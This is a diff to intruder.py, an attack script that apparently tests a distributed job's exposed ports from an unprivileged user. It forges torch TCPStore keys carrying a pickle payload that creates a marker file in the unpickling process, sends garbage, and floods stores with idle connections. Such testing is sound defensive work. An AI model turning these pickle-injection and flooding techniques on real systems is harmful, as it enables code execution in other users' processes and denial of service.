@@ -1,8 +1,9 @@
 """Attacks on the ports of a running job, by an ordinary user: `intruder.py PAYLOAD`.
 
-Reads lists of ports as JSON lines, attacks each port again and again until the input ends, and then prints
-what it found. If root starts it, it gives up its rights after the imports. Its payload, a pickle, creates the
-file PAYLOAD in the process that unpickles it. Keys that torch wrote itself are left alone (docs/slurm.md says why).
+Reads lists of ports as JSON lines, attacks each until the input ends, and then prints what it found. Ports of
+torch and gloo are disturbed a few times only, because these libraries never close such connections. If root
+starts it, it gives up its rights after the imports. Its payload, a pickle, creates the file PAYLOAD in the
+process that unpickles it. Keys that torch wrote itself are left alone (docs/slurm.md says why).
 """
 
 import contextlib
@@ -14,17 +15,20 @@ import pickle
 import select
 import socket
 import sys
+import time
 from collections import Counter
 
 from torch.distributed import TCPStore
 
 NOBODY = 65534
-FLOOD = 100
-"""Connections that stay open without a word, per port and round."""
+FLOOD = 600
+"""Connections to the job's store that stay open without a word."""
+ROUNDS = 3
+"""Rounds in which a port of a library is attacked."""
 PING = b"\x00" + (0x3C85F7CE).to_bytes(4, "little") + b"\x0d" + (77).to_bytes(4, "little")
 """Greeting of a client of torch's TCPStore, which answers with the number."""
 FAULT = '{"kind": "error", "rank": 1, "message": "forged"}'
-GARBAGE = (b"", b"\x00" * 64, b"\xff" * 4096, os.urandom(1 << 16), b"GET / HTTP/1.1\r\n\r\n")
+GARBAGE = (b"", b"\xff" * 4096, os.urandom(1 << 16), b"GET / HTTP/1.1\r\n\r\n")
 
 
 class Payload:
@@ -75,8 +79,9 @@ def forge(port: int, payload: bytes, found: Counter) -> None:
 WORDS = ("asks", "claims", "living", "link/", "faults", "stop")
 
 
-def disturb(port: int, found: Counter) -> None:
-    """Send garbage, answer a store's question without the key, and leave connections open."""
+def disturb(port: int, found: Counter) -> bool:
+    """Send garbage, answer a store's question without the key; return whether there was such a question."""
+    asked = found["questions"]
     for content in GARBAGE:
         with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as connection:
             connection.settimeout(0.05)
@@ -91,11 +96,13 @@ def disturb(port: int, found: Counter) -> None:
                 answer = connection.recv(4096)
                 found["answers"] += bool(answer)
     found["disturbed"] += 1
+    return found["questions"] > asked
 
 
 def main(path: str) -> None:
     give_up_rights()
     payload, found, ports, held = pickle.dumps(Payload(path)), Counter(), [], []
+    rounds, stores, torch_stores = Counter(), set(), set()
     print("ready", flush=True)
     while True:
         if select.select([sys.stdin], [], [], 0)[0]:
@@ -104,15 +111,21 @@ def main(path: str) -> None:
                 break
             ports = json.loads(line)
         for port in ports:
-            if is_torch_store(port):
+            rounds[port] += 1
+            if rounds[port] > ROUNDS and port not in stores | torch_stores:
+                continue
+            if port in torch_stores or (rounds[port] == 1 and is_torch_store(port)):
+                torch_stores.add(port)
                 with contextlib.suppress(RuntimeError):
                     forge(port, payload, found)
-            disturb(port, found)
-            for _ in range(FLOOD):
-                with contextlib.suppress(OSError):
-                    held.append(socket.create_connection(("127.0.0.1", port), 0.2))
-        while len(held) > 5 * FLOOD:
+            elif disturb(port, found):
+                stores.add(port)
+                for _ in range(FLOOD):
+                    with contextlib.suppress(OSError):
+                        held.append(socket.create_connection(("127.0.0.1", port), 0.2))
+        while len(held) > FLOOD:
             held.pop(0).close()
+        time.sleep(0.1)
     print(json.dumps(found | {"uid": os.getuid()}))
 
 
